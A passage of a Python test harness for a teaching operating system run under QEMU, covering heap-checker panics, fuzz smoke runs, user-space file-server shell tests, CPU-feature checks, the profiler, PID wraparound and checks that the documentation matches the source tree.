     r"kfree from ktest_heap_use_after_free\+0x[0-9a-f]+\): byte 8 is 78"),
    ("heap_double_free", "double_free_panics_naming_the_caller",
     r"panic: kfree\(0x[0-9a-f]+\) from ktest_heap_double_free\+0x[0-9a-f]+: double free"),
    # the guarded pool (kernel/mm/kfence.c): reads fault, and the panic names
    # the access, the block, its kmalloc and kfree (file:line), the instruction
    ("kfence_read_after_free", "kfence_read_after_free_panics_naming_the_block",
     r"panic: kfence: read after free of a 40-byte block at 0xf8[0-9a-f]+: byte 8\n"
     r"  kmalloc from ktest_kfence_read_after_free\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
     r"  kfree from ktest_kfence_read_after_free\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
     r"  read by the instruction at ktest_kfence_read_after_free\+0x[0-9a-f]+ "
     r"\(kernel/test/ktest\.c:\d+\)\n"),
    ("kfence_read_past_end", "kfence_read_past_the_end_panics_naming_the_block",
     r"panic: kfence: read past the end of a 100-byte block at 0xf8[0-9a-f]+: "
     r"byte 100, 1 past its last\n"
     r"  kmalloc from ktest_kfence_read_past_end\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
     r"  read by the instruction at ktest_kfence_read_past_end\+0x[0-9a-f]+"),
    ("kfence_underflow", "kfence_underflow_write_panics_at_kfree",
     r"panic: heapcheck: heap underflow: 100-byte block at 0xf8[0-9a-f]+ written 1 byte\(s\) "
     r"before its start \(kmalloc from ktest_kfence_underflow\+0x[0-9a-f]+"),
    ("kfence_double_free", "kfence_double_free_panics_naming_the_block",
     r"panic: kfree\(0xf8[0-9a-f]+\) from ktest_kfence_double_free\+0x[0-9a-f]+ "
     r"\(kernel/test/ktest\.c:\d+\): double free of a 40-byte block \(kmalloc from "
     r"ktest_kfence_double_free\+"),
    # what it missed before (doc/decisions.md, "The guarded pool"): a read
    # before a block's start, past a block bigger than a page, long after the
    # free (4000 allocations later), and while a process has failnth armed
    ("kfence_read_before_start", "kfence_read_before_the_start_panics_naming_the_block",
     r"panic: kfence: read before the start of a 100-byte block at 0xf[0-9a-f]+: "
     r"1 byte\(s\) before its start\n"
     r"  kmalloc from ktest_kfence_read_before_start\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
     r"  read by the instruction at ktest_kfence_read_before_start\+0x[0-9a-f]+"),
    ("kfence_overflow", "kfence_overflow_write_of_a_block_at_its_page_start_panics_at_kfree",
     r"panic: heapcheck: heap overflow: 100-byte block at 0xf[0-9a-f]+000 written 1 byte\(s\) "
     r"past its end \(kmalloc from ktest_kfence_overflow\+0x[0-9a-f]+"),
    ("kfence_big_block_read_past_end", "kfence_read_past_the_end_of_a_64_kib_block_panics",
     r"panic: kfence: read past the end of a 65536-byte block at 0xf[0-9a-f]+: "
     r"byte 65536, 1 past its last\n"
     r"  kmalloc from ktest_kfence_big_block_read_past_end\+0x[0-9a-f]+ "
     r"\(kernel/test/ktest\.c:\d+\)\n"
     r"  read by the instruction at ktest_kfence_big_block_read_past_end\+0x[0-9a-f]+"),
] + [(mode, name,
      r"panic: kfence: read after free of a 40-byte block at 0xf[0-9a-f]+: byte 8\n"
      r"  kmalloc from ktest_%s\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
      r"  kfree from ktest_%s\+0x[0-9a-f]+ \(kernel/test/ktest\.c:\d+\)\n"
      r"  read by the instruction at ktest_%s\+0x[0-9a-f]+" % (mode, mode, mode))
     for mode, name in (("kfence_read_long_after_free",
                         "kfence_read_4000_allocations_after_free_names_the_block"),
                        ("kfence_failnth_read_after_free",
                         "kfence_read_after_free_panics_while_failnth_is_armed"))]


def heapcheck_suite():
    """The heap checker catches what it is for: each kernel test breaks the
    heap on purpose, and the panic must name the block and its callers.
    And the guarded pool is on in an ordinary boot with `heapcheck`, from
    once the boot archive is unpacked (kernel/mm/kfence.c), and not without."""
    def run():
        res = []
        for args, want in (("heapcheck", True), ("", False)):
            b = qemu.run(qemu.kernel_args("%s panic=exit run=/bin/true" % args), timeout=60)
            m = re.search(r"initrd: \d+ entries unpacked\r?\n(.|\n)*heapcheck: guarded pool of "
                          r"\d+ one-page and \d+ 64-KiB slots", b.output)
            ok = (m is not None) == want and b.guest_code == 0
            res.append(("heapcheck/guarded_pool_%s" % ("on_after_the_boot" if want else
                                                       "off_without_heapcheck"),
                        ok, "" if ok else "status %s\n%s" % (b.status, tail(b.output))))
        for mode, name, regex in HEAP_PANICS:
            b = qemu.run(qemu.kernel_args("test=%s heapcheck panic=exit" % mode), timeout=60)
            ok = re.search(regex, b.output) is not None and b.status == qemu.PANIC_STATUS
            res.append(("heapcheck/" + name, ok, "" if ok else "status %s, want /%s/\n%s"
                        % (b.status, regex, tail(b.output))))
        return res
    return "heapcheck", run


# The fuzz smoke: each fuzzer in the build, a fixed seed, about a minute of
# guest time in all (make fuzz runs them for longer, with fresh seeds).
FUZZ_SMOKE = {"sys": 25, "elf": 20, "ext2": 15}
# fuzz_race (processes racing on shared files on ext2 and ramfs): each of
# last session's five races, put back, fails its first round (doc/fuzzing.md).
FUZZ_SMOKE["race"] = 4
# fuzz_perm (who may do what, against an oracle from the manual): its first
# 3000 operations (3-4 s; at most 20 on a loaded host), the same ones on any
# host, which catch the kmutants of perm.c, namei.c's checks, exec's x,
# cred.c's set_id, ns_may_change and fs_may_revoke that doc/fuzzing.md lists.
FUZZ_SMOKE["perm"] = 20
FUZZ_SMOKE_MAXCOUNT = {"perm": 3000}
# fuzz_oom (each operation with its Nth allocation failing, N = 1, 2, ...):
# its first 3000 (operation, N) pairs, every operation swept a dozen times
# (a few seconds), which catch the kmutants doc/fuzzing.md lists for it.
FUZZ_SMOKE["oom"] = 20
FUZZ_SMOKE_MAXCOUNT["oom"] = 3000


def fuzz_smoke_suite(name, seconds, seed=1):
    import fuzz

    def run():
        o = fuzz.run_guest(name, seed, seconds, maxcount=FUZZ_SMOKE_MAXCOUNT.get(name))
        return [("fuzz/%s_seed_%d_no_panic_hang_reset_or_leak" % (name, seed), o.ok,
                 "" if o.ok else fuzz.report(o))]
    return "fuzz/" + name, run


def fuzz_engineer_suites():
    import fuzz
    return [heapcheck_suite()] + [fuzz_smoke_suite(n, FUZZ_SMOKE[n]) for n in fuzz.available()]


# ================================================================ srv (issue 15, part 3)
# The srv engineer's block: the issue's must-show for file servers in user
# space, typed into the console (ramsrv at /tmp/s, the server killed, the
# other two example servers), and the protocol fuzzer's smoke. Every rule
# one by one: user/tests/t_srv.c (a t_*.c suite, booted like the others).
FUZZ_SMOKE["srv"] = 10


def srv_shell_suite():
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("heapcheck panic=exit"), timeout=90) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/srv/prompt_appears", False, tail(s.output))]
            check = shell_checker(s, res, "shell/srv/")
            check("srvmount_ramsrv_then_echo_and_cat_print_hi",
                  ["mkdir /tmp/s; srvmount /tmp/s ramsrv", "echo hi > /tmp/s/f; cat /tmp/s/f"],
                  r"^hi$")
            check("ls_of_the_served_directory_lists_f", ["ls /tmp/s"], r"\A[^\n]*\n?f\n")
            # ramsrv's files stop at 1 MiB (EFBIG): a move across filesystems
            # that fails midway takes its half copy away again.
            check("a_move_that_fails_midway_leaves_no_half_copy",
                  ["truncate -s 2M /tmp/big; mv /tmp/big /tmp/s/big; echo status=$?",
                   "ls /tmp/s; wc -c < /tmp/big"],
                  r"^mv: /tmp/big -> /tmp/s/big: File too large$\n^status=1$\n"
                  r"[^\n]*ls /tmp/s; wc -c < /tmp/big\n^f$\n^\s*2097152$")
            check("output_lost_to_a_full_file_is_status_1",
                  ["head -c 1100000 /dev/zero > /tmp/s/z; echo status=$?",
                   "cat /tmp/big > /tmp/s/c; echo status=$?"],
                  r"^head: write error: File too large$\n^status=1$[\s\S]*"
                  r"^cat: standard output: File too large$\n^status=1$")
            # fd 3 is also the number srvmount's own end of the channel gets
            check("srvmount_f_3_serves_on_the_servers_fd_3",
                  ["mkdir /tmp/s3; srvmount -f 3 /tmp/s3 ramsrv -f 3; echo status=$?",
                   "echo hey > /tmp/s3/g; cat /tmp/s3/g; cat /proc/self/ns"],
                  r"^status=0$[\s\S]*^hey$[\s\S]*^/tmp/s3 srv chan$")
            m = re.search(r"^\s*(\d+)\s+\d+\s+\S+\s+\d+\s+ramsrv$", s.run("ps") or "", re.M)
            check("killing_the_server_gives_eio_not_a_hang",
                  ["kill %s" % (m.group(1) if m else "none"), "cat /tmp/s/f; echo status=$?",
                   "ls /tmp/s; echo status=$?"],
                  r"^cat: /tmp/s/f: I/O error$[\s\S]*^status=1$[\s\S]*"
                  r"^ls: /tmp/s: I/O error$[\s\S]*^status=1$")
            check("procsrv_files_are_computed_when_read",
                  ["mkdir /tmp/p; srvmount /tmp/p procsrv", "ls /tmp/p", "cat /tmp/p/ps"],
                  r"^ps$[\s\S]*^uptime$[\s\S]*^\s*\d+ running\s+procsrv$")
            check("mirrorsrv_mirrors_a_directory_read_only",
                  ["mkdir /tmp/m; srvmount /tmp/m mirrorsrv /etc", "cat /tmp/m/passwd",
                   "echo x > /tmp/m/passwd"],
                  r"^root:[\s\S]*/tmp/m/passwd: Read-only file system")
            # Options that are not theirs are usage errors, not a server on fd 0
            # (here /dev/null: the old ones served it and exited 0).
            check("servers_and_srvmount_refuse_options_that_are_not_theirs",
                  ["ramsrv -g 3 < /dev/null; echo status=$?",
                   "procsrv -f 3 < /dev/null; echo status=$?",
                   "srvmount -f x /tmp/s ramsrv < /dev/null; echo status=$?"],
                  r"^usage: ramsrv \[-f fd\]$\n^status=2$[\s\S]*^usage: procsrv$\n^status=2$"
                  r"[\s\S]*^usage: srvmount[^\n]*\n^status=2$")
        return res
    return "shell/srv", run


def srv_suites():
    return [srv_shell_suite()]


# ---------------------------------------------------------------- no sysenter
def nosep_suite():
    """On a CPU without sysenter (QEMU's qemu32 less SEP) the C library
    makes every call by int $0x80: t_proc passes all the same."""
    def run():
        args = qemu.kernel_args("heapcheck panic=exit run=/bin/t_proc") + ["-cpu", "qemu32,-sep"]
        b = qemu.run(args, timeout=120)
        res = [("nosep/the_kernel_sees_no_sysenter",
                "syscalls: int $0x80 only" in b.output, tail(b.output))]
        res += parse_results("nosep/t_proc/", b.output)
        done = re.search(r"^t_proc: done", b.output, re.M) is not None
        res.append(("nosep/t_proc_completes_by_int_0x80", done and "panic:" not in b.output,
                    tail(b.output)))
        return res
    return "nosep", run


def oldcpu_suite():
    """A CPU Orthos cannot run on (a Pentium: no cmov, no fxsave) is told
    so at the first instruction, not left to fault in silence."""
    def run():
        args = qemu.kernel_args("panic=exit run=/bin/true") + ["-cpu", "pentium"]
        b = qemu.run(args, timeout=30, until=r"halted")
        said = "Orthos needs a Pentium II or later" in b.output
        return [("oldcpu/a_pentium_is_told_it_is_too_old", said, tail(b.output))]
    return "oldcpu", run


# ---------------------------------------------------------------- perf3-vfs: the profiler
def perf3_vfs_suites():
    """The sampling profiler (boot argument `prof`, /proc/prof) and the
    per-call timer bench_vfs: developer tools, README "Where the kernel's
    time goes"."""
    def prof_run():
        res = []
        b = qemu.run(qemu.kernel_args("prof panic=exit run=/bin/cat /proc/prof"), timeout=60)
        m = re.search(r"^samples (\d+) user (\d+) kernel (\d+) unknown (\d+)", b.output, re.M)
        ok = bool(m) and int(m.group(3)) > 0 and int(m.group(1)) == sum(
            int(m.group(i)) for i in (2, 3, 4))
        res.append(("prof/proc_prof_counts_samples_since_boot", ok,
                    "" if ok else tail(b.output)))
        top = re.findall(r"^\s*(\d+)\s+\d+\.\d% (\w+)$", b.output, re.M)
        ok = bool(top) and all(int(a[0]) >= int(b_[0]) for a, b_ in zip(top, top[1:]))
        res.append(("prof/proc_prof_lists_kernel_functions_busiest_first", ok,
                    "" if ok else tail(b.output)))
        b = qemu.run(qemu.kernel_args("panic=exit run=/bin/cat /proc/prof"), timeout=60)
        ok = "samples" not in b.output and "No such file" in b.output
        res.append(("prof/no_proc_prof_without_the_boot_argument", ok,
                    "" if ok else tail(b.output)))
        return res

    def bench_run():
        b = qemu.run(qemu.kernel_args("panic=exit run=/bin/bench_vfs"), timeout=120)
        rows = dict(re.findall(r"^VFSCOST (\S+)\s+(\d+) ns$", b.output, re.M))
        want = ["walk", "fstat", "ready", "close", "dup", "dup2", "create", "unlink", "getppid",
                "open+close", "creat+unlink"]
        ok = "bench_vfs: done" in b.output and all(int(rows.get(k, 0)) > 0 for k in want)
        return [("bench_vfs/times_every_call_of_open", ok, "" if ok else tail(b.output))]
    return [("perf3-vfs/prof", prof_run), ("perf3-vfs/bench_vfs", bench_run)]


def pid_wrap_suite():
    """Pids past a million, and the wrap after PID_MAX (kernel/proc/proc.h):
    booted with nextpid= just below it, t_robust's children get PID_MAX - 1,
    PID_MAX, then 2 and 3, and /proc names each of them."""
    def run():
        pid_max = (1 << 28) - 1
        b = qemu.run(qemu.kernel_args("heapcheck panic=exit nextpid=%d run=/bin/t_robust "
                                      "proc_names_every_pid" % (pid_max - 2)), timeout=60)
        res = parse_results("t_robust/nextpid/", b.output)
        want = r"^t_robust: pids %d %d 2 3 after %d$" % (pid_max - 1, pid_max, pid_max - 2)
        ok = re.search(want, b.output, re.M) is not None
        res.append(("t_robust/nextpid/pids_wrap_after_pid_max_to_2", ok,
                    "" if ok else "console lacks /%s/\n%s" % (want, tail(b.output))))
        return res
    return "t_robust/nextpid", run


# ---------------------------------------------------------------- docs
def docs_suite(root=qemu.ROOT):
    """The docs against the tree, without a boot: every system call in the
    kernel's table has a manual page that gives its number, and each page
    names a real call (NAME.2.md gives SYS_NAME's number, NAME.3.md
    declares NAME()); every
    prototype a page's SYNOPSIS shows is the one its header declares
    (user/include, followed through its #includes); every errno a page's
    ERRORS lists is produced by user/tests/t_errno.c or named there as
    one it cannot produce, and the other way round; and the docs a reader
    follows (README.md, doc/, the lab handouts; not decisions.md, which is
    history) name only make targets, repository files, functions and guest
    commands, tests and functions that exist (and the README names every
    .PHONY goal of the Makefile), give named constants their
    values, and list each lab's tests with the points its points file
    gives. A name with a placeholder (NN, NAME, <x>, *) is not checked;
    what the docs say a call does is the guest suites' business."""
    def read(rel):
        with open(os.path.join(root, rel)) as f:
            return f.read()

    def code_of(text):
        """Inline code spans and the lines of fenced blocks."""
        spans, fence = [], False
        for line in text.splitlines():
            if line.lstrip().startswith("```"):
                fence = not fence
            elif fence:
                spans.append(line)
            else:
                spans += re.findall(r"`([^`]+)`", line)
        return spans

    def section(text, title):
        m = re.search(r"^## %s\n(.*?)(?=^## |\Z)" % title, text, re.M | re.S)
        return m.group(1) if m else ""

    def squash(decl):
        decl = re.sub(r"/\*.*?\*/|//.*", "", decl)
        decl = re.sub(r"__attribute__\s*\(\(.*?\)\)", "", decl)
        decl = re.sub(r"\s*\*\s*", " *", decl.strip().rstrip(";"))
        decl = re.sub(r"\s*([(),])\s*", r"\1 ", decl)
        return re.sub(r"\s+", " ", decl).replace("( ", "(").replace(" )", ")").replace(" ,", ",").strip()

    def declarations(header, seen):
        """name -> declaration, in a user header and what it includes."""
        if header in seen:
            return {}
        seen.add(header)
        for base in ("user/include", "kernel/include", "kernel", "user"):
            path = os.path.join(root, base, header)
            if os.path.isfile(path):
                break
        else:
            return {}
        with open(path) as f:
            text = re.sub(r"/\*.*?\*/", "", f.read(), flags=re.S)
        decls = {}
        for inc in re.findall(r'^#include [<"]([^>"]+)[>"]', text, re.M):
            decls.update(declarations(inc, seen))
        for m in re.finditer(r"^([A-Za-z_][^;{}#()]*?\b(\w+)\s*\([^;{}#]*?\))[^;{}#]*;", text, re.M):
            decls.setdefault(m.group(2), squash(m.group(1)))
        return decls

    def man_checks(bad):
        calls = re.search(r"#define SYSCALLS\(X\)(.*?)\n\n", read("kernel/proc/syscall.h"), re.S)
        calls = re.findall(r"X\((\w+)\)", calls.group(1))
        numbers = dict(re.findall(r"^#define SYS_(\w+)\s+(\d+)", read("kernel/include/uapi/syscall.h"), re.M))
        documented = {}
        pages = sorted(glob.glob(os.path.join(root, "doc", "man", "*.[23].md")))
        index = read("doc/man/README.md")
        for path in pages:
            page = os.path.basename(path)
            text = read(os.path.join("doc", "man", page))
            if "(%s)" % page not in index:
                bad.append("doc/man/README.md does not list %s" % page)
            synopsis = section(text, "SYNOPSIS")
            if page != "intro.2.md" and not synopsis:
                bad.append("%s has no SYNOPSIS" % page)
            # "System call 40 (`SYS_walk`)", "System calls 5 (`SYS_getpid`) and 6 (`SYS_getppid`)"
            for num, name in re.findall(r"(\d+) \(`SYS_(\w+)`\)", re.sub(r"\s+", " ", synopsis)):
                documented.setdefault(name, page)
                if name not in numbers:
                    bad.append("%s: SYS_%s is not a system call" % (page, name))
                elif numbers[name] != num:
                    bad.append("%s: SYS_%s is %s, not %s" % (page, name, numbers[name], num))
            if page.endswith(".2.md") and page != "intro.2.md" and not re.search(r"`SYS_\w+`", synopsis):
                bad.append("%s: section 2, but its SYNOPSIS names no system call" % page)
            named = page.split(".")[0]          # the page is the call's (2) or the function's (3)
            if page.endswith(".2.md") and page != "intro.2.md" and \
                    "`SYS_%s`" % named not in synopsis:
                bad.append("%s: its SYNOPSIS does not give SYS_%s's number" % (page, named))
            if page.endswith(".3.md") and not re.search(r"^[A-Za-z_][^;(]*\b%s\s*\(" % named, synopsis, re.M):
                bad.append("%s: its SYNOPSIS declares no %s()" % (page, named))
            for block in re.findall(r"```c\n(.*?)```", synopsis, re.S):
                seen, decls = set(), {}
                for inc in re.findall(r"^#include <([^>]+)>", block, re.M):
                    decls.update(declarations(inc, seen))
                for proto in re.findall(r"^[A-Za-z_][^;]*?\b\w+\s*\([^;]*\);", block, re.M | re.S):
                    name = re.search(r"(\w+)\s*\(", proto).group(1)
                    want = squash(proto)
                    if name not in decls:
                        bad.append("%s: %s() is declared in none of %s" % (page, name, sorted(seen)))
                    elif decls[name] != want:
                        bad.append("%s: SYNOPSIS says `%s`, the header `%s`" % (page, want, decls[name]))
        for name in calls:
            if name not in documented:
                bad.append("system call %s (SYS_%s) has no manual page giving its number" % (name, name))

    def errno_checks(bad):
        """Each errno a page's ERRORS section lists is an errno, and each
        (page, errno) pair is made to happen in user/tests/t_errno.c
        (EXPECT), or in e2man.c (an ext2 image's errors: man_ext2), or
        named in t_errno.c, with its reason, among those neither can
        produce; and each pair they name is on its page."""
        errnos = set(re.findall(r"^#define (E[A-Z0-9]+)\s", read("kernel/include/uapi/errno.h"), re.M))
        src = read("user/tests/t_errno.c")
        tested = set((page, err) for page, err, _ in expected_errors(src) +
                     expected_errors(read("user/tests/e2man.c")))
        skipped = set(re.findall(r"^ \*   (\w+) (E[A-Z0-9]+): \S", src, re.M))
        listed = set()
        for path in sorted(glob.glob(os.path.join(root, "doc", "man", "*.[23].md"))):
            page = os.path.basename(path).split(".")[0]
            for err in set(re.findall(r"\*\*\[(E[A-Z0-9]+)\]\*\*", section(read(os.path.relpath(path, root)),
                                                                           "ERRORS"))):
                listed.add((page, err))
                if err not in errnos:
                    bad.append("%s: [%s] is no errno (kernel/include/uapi/errno.h)" % (page, err))
                elif (page, err) not in tested | skipped:
                    bad.append("%s: [%s] is listed, but neither t_errno.c nor e2man.c EXPECTs it, "
                               "and t_errno.c does not say why not"
                               % (page, err))
        for page, err in sorted((tested | skipped) - listed):
            bad.append("t_errno.c or e2man.c: %s %s is not on the page's ERRORS list" % (page, err))
        for page, err in sorted(tested & skipped):
            bad.append("t_errno.c: %s %s is EXPECTed and said not to be produced" % (page, err))

    def reference_checks(bad):
        out = subprocess.run(["make", "-pRrq", "DEPS=0", "-f", "Makefile", "__no_such_goal__"], cwd=root,
                             capture_output=True, text=True).stdout
        targets = set(m.group(1) for m in re.finditer(r"^([^\s:#=%]+|print-%):(?!=)", out, re.M))
        phony = re.search(r"^\.PHONY: (.*)$", out, re.M)
        readme = read("README.md")
        for goal in (phony.group(1).split() if phony else []):       # and every goal is in the README
            if goal != "all" and "`make %s" % goal not in readme:
                bad.append("README.md does not name `make %s`" % goal)
        builtins = set(re.findall(r'^\s+\{ "(\w+)", b_\w+,', read("user/bin/sh.c"), re.M))
        programs = builtins | set(os.path.splitext(os.path.basename(p))[0] for p in
                                  glob.glob(os.path.join(root, "user", "bin", "*.c")) +
                                  glob.glob(os.path.join(root, "user", "tests", "*.c")))
        programs |= set("lab" + os.path.basename(d)[:2]
                        for d in glob.glob(os.path.join(root, "lab", "[0-9][0-9]-*")))
        placeholder = re.compile(r"NN|NAME|PROG|<|\*|\{|\.\.\.|\$")
        words = set(w for top in ("kernel", "user", "lab", "tools")
                    for p in glob.glob(os.path.join(root, top, "**", "*"), recursive=True)
                    if re.search(r"\.(c|h|asm|py|txt)$|/points$", p)
                    for w in re.findall(r"\w+", open(p, errors="replace").read()))
        docs = ["README.md", "lab/README.md"] + sorted(
            os.path.relpath(p, root) for p in glob.glob(os.path.join(root, "doc", "*.md")) +
            glob.glob(os.path.join(root, "doc", "man", "*.md")) +
            glob.glob(os.path.join(root, "lab", "[0-9][0-9]-*", "README.md")))
        for doc in docs:
            if doc == "doc/decisions.md":
                continue
            text = read(doc)
            made = set(re.findall(r"\$ cp \S+ \S*?(\w+)$", text, re.M))    # the tour's own programs
            for link in re.findall(r"\]\(([^)#\s]+)(?:#[^)]*)?\)", text):
                if "://" not in link and not link.startswith("mailto:") and \
                        not os.path.exists(os.path.join(root, os.path.dirname(doc), link)):
                    bad.append("%s: the link %s leads nowhere" % (doc, link))
            for span in code_of(text):
                # `make -s VAR=x goal`: the goal, if there is one
                for m in re.finditer(r"(?:^|[\s;(&|])make((?: +-\w+| +[A-Z_]+=\S*)*)(?: +([a-z][\w.%-]*))?",
                                     span):
                    goal = m.group(2)
                    if goal and not placeholder.search(goal) and goal not in targets and \
                            not (goal.startswith("print-") and "print-%" in targets):
                        bad.append("%s: `make %s`: no such target in the Makefile" % (doc, goal))
                for path in re.findall(r"(?<![\w/.~-])((?:kernel|user|tools|doc|lab|boot)/[\w./+-]*\w"
                                       r"|Makefile|linker\.ld)\b", span):
                    if not placeholder.search(path) and not os.path.exists(os.path.join(root, path)):
                        bad.append("%s: `%s` does not exist" % (doc, path))
                prompt = re.match(r"^(?:/\S*|~\S*) [$#] (\S+)", span)
                if prompt and not placeholder.search(prompt.group(1)):
                    word = prompt.group(1)
                    if os.path.basename(word) not in programs | made and not re.match(r"^\W", word):
                        bad.append("%s: `%s` is no program or shell builtin" % (doc, span.strip()))
            # a test's or a function's name (three words or more): somewhere in the sources
            for name in sorted(set(re.findall(r"`([a-z][a-z0-9]*(?:_[a-z0-9]+){2,})(?:\(\))?`", text))):
                if name not in words:
                    bad.append("%s: `%s` is in no source file (a test or function renamed?)" % (doc, name))
            # "Source: `kernel/fs/sysfile.c` (`sys_walk`), ...": each function is in its file
            for path, names in re.findall(r"`((?:kernel|user|tools)/[\w./-]+\.(?:c|h|py|asm))` \(([^)]*)\)",
                                          text):
                if not os.path.isfile(os.path.join(root, path)):
                    continue
                src = read(path)
                for name in re.findall(r"`(\w+)(?:\(\))?`", names):
                    if not re.search(r"\b%s\b" % re.escape(name), src):
                        bad.append("%s: `%s` is not in %s" % (doc, name, path))

    def constant_checks(bad):
        """A number a doc ties to a constant ("65536 bytes (`PIPE_SIZE`)",
        "`SRV_TAGS` = 16", "`O_ACCMODE` (3)", a table row "| `Tstat` | 100 |";
        not "`X` is N", which as often says what a call returns)
        is its value (constants #defined as a plain number only, in kernel/
        or user/include)."""
        defined = {}
        for path in glob.glob(os.path.join(root, "kernel", "**", "*.[ch]"), recursive=True) + \
                glob.glob(os.path.join(root, "user", "include", "**", "*.h"), recursive=True):
            for name, value in re.findall(r"^#define ([A-Za-z_]\w+)\s+(0x[0-9a-fA-F]+|\d+)u?\b\s*(?:/\*.*)?$",
                                          open(path).read(), re.M):
                defined.setdefault(name, set()).add(int(value, 8 if re.match(r"0\d", value) else 0))
        said = re.compile(r"(\d[\d,]*)(?: [a-z]+)? \(`([A-Z][A-Z0-9_]+)`\)"
                          r"|`([A-Z][A-Z0-9_]+)` \((?:= ?)?(\d[\d,]*|0x[0-9a-f]+)\b(?![.\d^])"
                          r"|`([A-Z][A-Z0-9_]+)`? = (\d+|0x[0-9a-f]+)\b(?![.\d^])"
                          r"|\| `(\w+)` \| (\d+) \|")      # a table row: | `Tstat` | 100 |
        docs = ["README.md", "doc/fuzzing.md", "doc/srv.md", "doc/instructors.md", "lab/README.md"]
        for doc in docs + sorted(
                os.path.relpath(p, root) for p in glob.glob(os.path.join(root, "doc", "man", "*.md")) +
                glob.glob(os.path.join(root, "lab", "[0-9][0-9]-*", "README.md"))):
            for m in said.finditer(re.sub(r"\s+", " ", read(doc))):
                g = m.groups()
                name, value = (g[1], g[0]) if g[1] else next((g[i], g[i + 1]) for i in (2, 4, 6) if g[i])
                if name in defined and int(value.replace(",", ""), 0) not in defined[name]:
                    bad.append("%s: says %s is %s; the code defines it as %s" %
                               (doc, name, value, " or ".join(map(str, sorted(defined[name])))))

    def handout_checks(bad):
        """A handout's table of tests is its lab's points file, name for name
        and point for point, and `labNN name` in any doc runs a test there."""
        tests = {}
        for lab in sorted(glob.glob(os.path.join(root, "lab", "[0-9][0-9]-*"))):
            rel = os.path.relpath(lab, root)
            points = dict(line.split()[:2] for line in read(rel + "/points").splitlines()
                          if line.strip() and not line.startswith("#"))
            tests["lab" + os.path.basename(lab)[:2]] = points
            table = dict(re.findall(r"^\| `(\w+)` \| (\d+) \|", read(rel + "/README.md"), re.M))
            for name in sorted(set(points) | set(table)):
                if points.get(name) != table.get(name):
                    bad.append("%s/README.md gives %s %s points, %s/points %s" %
                               (rel, name, table.get(name, "no"), rel, points.get(name, "no")))
        for doc in ["README.md", "lab/README.md", "doc/instructors.md"] + sorted(
                os.path.relpath(p, root)
                for p in glob.glob(os.path.join(root, "lab", "[0-9][0-9]-*", "*.md"))):
            for span in code_of(read(doc)):
                for prog, name in re.findall(r"\b(lab\d\d) ([a-z]\w+)", span):
                    if prog in tests and name not in tests[prog]:
                        bad.append("%s: `%s %s`: %s has no such test" % (doc, prog, name, prog))

    def conflict_checks(bad):
        """No tracked file holds a merge's conflict markers (one was
        committed into decisions.md once, and every check passed)."""
        files = subprocess.run(["git", "-C", root, "ls-files", "-z"], capture_output=True,
                               text=True).stdout.split("\0")
        for rel in filter(None, files):
            try:
                with open(os.path.join(root, rel), encoding="utf-8") as f:
                    text = f.read()
            except (UnicodeDecodeError, OSError):
                continue                # binary, or gone from the work tree
            for n, line in enumerate(text.splitlines(), 1):
                if re.match(r"(<{7}|>{7})( |$)|={7}$", line):
                    bad.append("%s:%d: %s" % (rel, n, line))

    def catalogue_checks(bad):
        """The instructors' guide gives the mutant catalogue's size: the
        count of lab/*/mutants/*.mutant and *.solution (it said 268 while
        there were 274)."""
        m = re.search(r"The catalogue holds (\d+) mutants and (\d+) correct\s+solutions",
                      read("doc/instructors.md"))
        have = [len(glob.glob(os.path.join(root, "lab", "*", "mutants", "*." + kind)))
                for kind in ("mutant", "solution")]
        if not m:
            bad.append("doc/instructors.md no longer says \"The catalogue holds N mutants and M "
                       "correct solutions\"")
        elif [int(m.group(1)), int(m.group(2))] != have:
            bad.append("doc/instructors.md: %s mutants and %s correct solutions; the labs hold "
                       "%d and %d" % (m.group(1), m.group(2), have[0], have[1]))

    def run():
        res = []
        for name, fn in (("docs/every_system_call_has_a_page_and_each_synopsis_is_its_header", man_checks),
                         ("docs/the_guides_count_of_mutants_is_the_catalogues", catalogue_checks),
                         ("docs/no_file_holds_conflict_markers", conflict_checks),
                         ("docs/every_errno_a_page_lists_is_tested_or_said_untestable", errno_checks),
                         ("docs/every_make_target_file_function_and_command_named_exists", reference_checks),
                         ("docs/each_number_given_to_a_named_constant_is_its_value", constant_checks),
                         ("docs/each_handouts_table_of_tests_is_its_points_file", handout_checks)):
            bad = []
            fn(bad)
            res.append((name, not bad, "\n".join(bad)))
        return res
    return "docs", run


def two_segment_elf():
    """An ELF32 program of two PT_LOAD segments, the second alone in the
    file's fifth KiB (offset 4096), so that exec's first read there starts
    at that block: damage under it is EUCLEAN, not a short read (ENOEXEC).
    Its code is _exit(0), never reached while the block is damaged."""
    code = bytes.fromhex("b801000000" "31db" "cd80")          # mov $1,%eax; xor %ebx,%ebx; int $0x80
    head = struct.pack("<4sBBBB8xHHIIIIIHHHHHH", b"\x7fELF", 1, 1, 1, 0, 2, 3, 1, 0x400080, 52, 0, 0,
                       52, 32, 2, 0, 0, 0)
    ph = [struct.pack("<8I", 1, 0, 0x400000, 0x400000, 0x100, 0x100, 5, 0x1000),
          struct.pack("<8I", 1, 0x1000, 0x401000, 0x401000, 0x100, 0x100, 6, 0x1000)]
    text = (head + b"".join(ph)).ljust(0x80, b"\0") + code
    return text.ljust(0x1000, b"\0") + b"\x11" * 0x100


def man_ext2_suite():
    """The errors the manual gives for what only an ext2 image holds
    (user/tests/e2man.c): a file of 4 GiB (EFBIG to write or truncate; it
    walks, reads and goes as any file) and a damaged block map (EUCLEAN to read, write,
    exec, and then to every change: ftruncate, fchmod, fchown). man.img is
    made here with mke2fs and debugfs, as a file on a carrier disk; every
    EXPECT of e2man.c must report."""
    name = "man_ext2"

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            tree, carrier = os.path.join(tmp, "tree"), os.path.join(tmp, "carrier.img")
            img, files = os.path.join(tmp, "man.img"), os.path.join(tmp, "files")
            os.makedirs(files)
            for rel, data in (("big", b"big\n"), ("healthy", b"hello\n"),
                              ("badmap", bytes(range(256)) * 12)):
                with open(os.path.join(files, rel), "wb") as f:
                    f.write(data[:3000])
            with open(os.path.join(files, "prog"), "wb") as f:
                f.write(two_segment_elf())
            os.chmod(os.path.join(files, "prog"), 0o755)
